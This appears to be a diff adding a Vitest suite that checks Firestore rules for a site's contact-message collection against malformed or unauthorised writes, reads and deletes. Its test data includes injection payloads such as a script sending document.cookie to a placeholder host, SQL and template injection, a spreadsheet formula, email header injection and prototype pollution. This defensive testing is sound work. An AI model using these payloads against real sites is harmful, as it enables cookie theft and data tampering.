@@ -1,0 +1,212 @@
+import { describe, expect, it } from "vitest";
+import type { Role } from "../world.ts";
+import {
+  bool,
+  commit,
+  double,
+  firestore,
+  KINDS,
+  map,
+  MESSAGE,
+  nameOf,
+  newMessage,
+  NOTHING,
+  read,
+  remove,
+  type Request,
+  serverTime,
+  set,
+  text,
+  time,
+  update,
+  verify,
+} from "./wire.ts";
+import { AS_MALFORMED, BY_RULES, worldOfTests } from "./world-under-attack.ts";
+
+const world = worldOfTests();
+
+const NEW = "contactMessages/new-message";
+const OLD = "contactMessages/message";
+const TIMED = { updateTransforms: [serverTime("timestamp")] };
+const withFields = (fields: object): Request => commit(newMessage(fields));
+
+it("a visitor may write a message (what the attacks below are made from)", async () => {
+  expect(await world.attack("public", commit(newMessage()))).toMatchObject({
+    status: 200,
+    changed: [NEW],
+  });
+});
+
+describe("a visitor's message", () => {
+  it.each<[string, Request]>([
+    ["has a field more", withFields({ website: text("https://spam.example") })],
+    ["is handled already", withFields({ handled: bool(true) })],
+    ["is not handled yet", withFields({ handled: bool(false) })],
+    ["has a role", withFields({ role: text("admin") })],
+    ["has a field that is called constructor", withFields({ constructor: text("x") })],
+    ["has a field of another case", withFields({ Name: text("x") })],
+    ["has a field below a field", withFields({ name: map({ first: text("x") }) })],
+    ["has no name", commit(set(NEW, { email: MESSAGE.email, message: MESSAGE.message }, TIMED))],
+    ["has no time", commit(set(NEW, MESSAGE))],
+    ["has nothing but a time", commit(set(NEW, {}, TIMED))],
+    ["has nothing at all", commit(set(NEW, {}))],
+    ["has a name of 201 letters", withFields({ name: text("x".repeat(201)) })],
+    ["has a name of a million letters", withFields({ name: text("x".repeat(1_000_000)) })],
+    ["has an email of 201 letters", withFields({ email: text(`${"x".repeat(199)}@x`) })],
+    ["has 5,001 letters", withFields({ message: text("x".repeat(5001)) })],
+    ["has two million letters", withFields({ message: text("é".repeat(2_000_000)) })],
+    ["is empty", withFields({ message: text("") })],
+    ["has an email without a place", withFields({ email: text("somebody@") })],
+    ["has an email without a name", withFields({ email: text("@x.example") })],
+    ["has two emails", withFields({ email: text("a@x.example,b@y.example") })],
+    ["has an email with a line that ends", withFields({ email: text("a@x.example\nBcc: b@y") })],
+    [
+      "has an email with a break of another kind",
+      withFields({ email: text("a@x.example\u2028b") }),
+    ],
+    ["has an email with a tab that is upright", withFields({ email: text("a@x.example\u000Bb") })],
+    ["has an email that takes a slow search", withFields({ email: text("@".repeat(200)) })],
+    ["is of a past time", withFields({ timestamp: time("2020-01-01T00:00:00Z") })],
+    ["is of a time ahead", withFields({ timestamp: time("9999-12-31T23:59:59Z") })],
+    [
+      "is of what the visitor takes for now",
+      withFields({ timestamp: time(new Date().toISOString()) }),
+    ],
+    [
+      "has its time in a map",
+      withFields({ timestamp: map({ at: time(new Date().toISOString()) }) }),
+    ],
+    ["has its time in text", withFields({ timestamp: text(new Date().toISOString()) })],
+    ["has its time in numbers", withFields({ timestamp: double(Date.now()) })],
+    [
+      "has a time for a name, too",
+      commit({ ...newMessage(), updateTransforms: [serverTime("timestamp"), serverTime("name")] }),
+    ],
+    [
+      "has the time of the server where nothing is",
+      commit({ ...newMessage(), updateTransforms: [serverTime("timestamp.at")] }),
+    ],
+    [
+      "has its time twice",
+      commit({
+        ...newMessage(),
+        updateTransforms: [serverTime("timestamp"), serverTime("savedAt")],
+      }),
+    ],
+    ["lies below another", commit(set(`${OLD}/replies/reply`, MESSAGE, TIMED))],
+    ["lies in a collection of another case", commit(set("contactmessages/new", MESSAGE, TIMED))],
+    ["lies among the clients", commit(set("clients/new-message", MESSAGE, TIMED))],
+    ["lies among the settings", commit(set("settings/new-message", MESSAGE, TIMED))],
+  ])("%s", async (_name, request) => {
+    expect(await world.attack("public", request)).toEqual(BY_RULES);
+  });
+
+  it.each(
+    ["name", "email", "message", "timestamp"].flatMap((name) =>
+      Object.entries(KINDS)
+        .filter(([kind]) => kind !== "text" || name === "timestamp" || name === "email")
+        .map(([kind, value]) => [name, kind, value] as const),
+    ),
+  )("has for its %s %s", async (name, _kind, value) => {
+    expect(await world.attack("public", withFields({ [name]: value }))).toEqual(BY_RULES);
+  });
+
+  it.each<[string, Request]>([
+    ["has a prototype", withFields(Object(JSON.parse('{"__proto__":{"stringValue":"x"}}')))],
+    ["has a field without a name", withFields({ "": text("x") })],
+    ["has a name as bare text", withFields({ name: "Somebody" })],
+    ["has half a letter in its id", commit(newMessage({}, "\uD800"))],
+    // A text that is no Unicode; what encodes it, as the inbox does for a link, throws.
+    ["has half a letter in its email", withFields({ email: text("\uD800@x.example") })],
+    ["has half a letter in its name", withFields({ name: text("a\uDFFFb") })],
+    ["has half a letter in its text", withFields({ message: text("\uD83D") })],
+    ["has a reserved id", commit(newMessage({}, "__id__"))],
+    ["has an id that goes up", commit(newMessage({}, ".."))],
+    ["has an id that goes on", commit(newMessage({}, "a/b"))],
+  ])("%s (malformed)", async (_name, request) => {
+    expect(await world.attack("public", request)).toEqual(AS_MALFORMED);
+  });
+
+  it.each([
+    ["a script", "<script>fetch('//x.example/'+document.cookie)</script>"],
+    ["an image that fails", '<img src=x onerror="alert(1)">'],
+    ["a link that runs", "javascript:alert(1)"],
+    ["a formula", '=HYPERLINK("https://x.example","x")'],
+    ["text that runs backwards", "\u202Etxt.exe"],
+    ["a query", "'; DROP TABLE clients; --"],
+    ["a template", "{{constructor.constructor('alert(1)')()}}${7*7}"],
+    ["the name of the prototype", "__proto__"],
+    ["a zero byte", "a\u0000b"],
+  ])("is %s, and is stored as the text it is, for the coach alone", async (_name, content) => {
+    const { status, changed, defects } = await world.attack(
+      "public",
+      withFields({ name: text(content), message: text(content) }),
+    );
+    expect({ status, changed, defects }).toEqual({ status: 200, changed: [NEW], defects: [] });
+    const stored = await world.backend.stored(nameOf(NEW));
+    expect(stored?.fields).toEqual({
+      ...MESSAGE,
+      name: text(content),
+      message: text(content),
+      timestamp: time(stored?.updateTime ?? ""),
+    });
+    expect(await world.attack("public", read(NEW))).toEqual(BY_RULES);
+  });
+});
+
+describe("a visitor who has written", () => {
+  const CHANGES: readonly (readonly [string, Request])[] = [
+    ["reads the message back", read(NEW)],
+    ["lists the messages with her own email", listOwn()],
+    ["verifies that the message is there", commit(verify(NEW))],
+    ["writes it once more", commit(newMessage())],
+    ["replaces it", commit(newMessage({ message: text("Something else") }))],
+    ["changes it", commit(update(NEW, { message: text("Something else") }))],
+    ["changes it to what it is", commit(update(NEW, { message: MESSAGE.message }))],
+    ["empties it", commit(update(NEW, { message: NOTHING }))],
+    ["marks it as handled", commit(update(NEW, { handled: bool(true) }))],
+    [
+      "renews its time",
+      commit(update(NEW, {}, [], { updateTransforms: [serverTime("timestamp")] })),
+    ],
+    ["adds to it", commit(update(NEW, { more: text("x") }))],
+    ["deletes it", commit(remove(NEW))],
+    ["deletes it, and writes another in its place", commit(remove(NEW), newMessage())],
+  ];
+
+  it.each(CHANGES)("%s", async (_name, request) => {
+    for (const who of ["public", "client"] satisfies readonly Role[]) {
+      await world.send(who, commit(newMessage()));
+      expect(await world.attack(who, request)).toEqual(BY_RULES);
+    }
+  });
+});
+
+describe("a visitor who wants another's message", () => {
+  it.each<[string, Request]>([
+    ["reads it", read(OLD)],
+    ["writes over it", commit(newMessage({}, "message"))],
+    [
+      "merges into it",
+      commit({ ...newMessage({}, "message"), updateMask: { fieldPaths: ["message"] } }),
+    ],
+    ["changes it", commit(update(OLD, { message: text("x") }))],
+    ["marks it", commit(update(OLD, { handled: bool(true) }))],
+    ["deletes it", commit(remove(OLD))],
+    [
+      "deletes all she can think of",
+      commit(remove(OLD), remove("contactMessages/1"), remove("contactMessages/2")),
+    ],
+  ])("%s", async (_name, request) => {
+    expect(await world.attack("public", request)).toEqual(BY_RULES);
+    expect(await world.attack("client", request)).toEqual(BY_RULES);
+  });
+});
+
+function listOwn(): Request {
+  const value = MESSAGE.email;
+  const where = { fieldFilter: { field: { fieldPath: "email" }, op: "EQUAL", value } };
+  return firestore(":runQuery", {
+    structuredQuery: { from: [{ collectionId: "contactMessages" }], where },
+  });
+}
